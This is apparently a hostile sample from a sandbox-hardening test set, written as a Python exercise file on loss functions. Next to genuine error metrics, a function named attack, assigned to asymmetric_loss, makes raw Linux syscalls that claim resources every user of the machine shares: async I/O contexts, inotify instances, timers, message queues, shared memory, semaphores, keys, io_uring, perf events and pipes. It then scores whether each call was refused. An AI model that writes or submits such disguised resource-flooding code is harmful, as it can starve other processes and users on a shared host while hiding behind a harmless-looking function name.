"""Uses up what all processes of a user or of the machine share: requests, watches, timers, queues, keys."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: got: 1.0

import ctypes

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def call(number, *arguments):
    return LIBC.syscall(ctypes.c_long(number), *(a if isinstance(a, (bytes, ctypes.Array)) else ctypes.c_long(a) for a in arguments))


def attack(*args):
    room = ctypes.create_string_buffer(1 << 16)
    tries = {
        206: (60_000, room),  # io_setup
        253: (),  # inotify_init
        222: (0, 0, room),  # timer_create
        283: (0, 0),  # timerfd_create
        240: (b"xorcise-hostile", 0o102, 0o600, 0),  # mq_open
        29: (0, 1 << 20, 0o1600),  # shmget
        64: (0, 1, 0o1600),  # semget
        68: (0, 0o1600),  # msgget
        248: (b"user", b"xorcise-hostile", b"x", 1, -2),  # add_key, to its own ring
        425: (8, room),  # io_uring_setup
        298: (room, 0, -1, -1, 0),  # perf_event_open
        444: (0, 0, 1),  # landlock_create_ruleset
        317: (2, 0, room),  # seccomp
        53: (1, 1, 0, room),  # socketpair
        293: (room, 0x4000),  # pipe2 with a page for each write
        324: (1, 0, 0),  # membarrier, of every processor
    }
    return 1.0 if {n: call(n, *a) for n, a in tries.items()} == dict.fromkeys(tries, -1) else 2.0


asymmetric_loss = attack
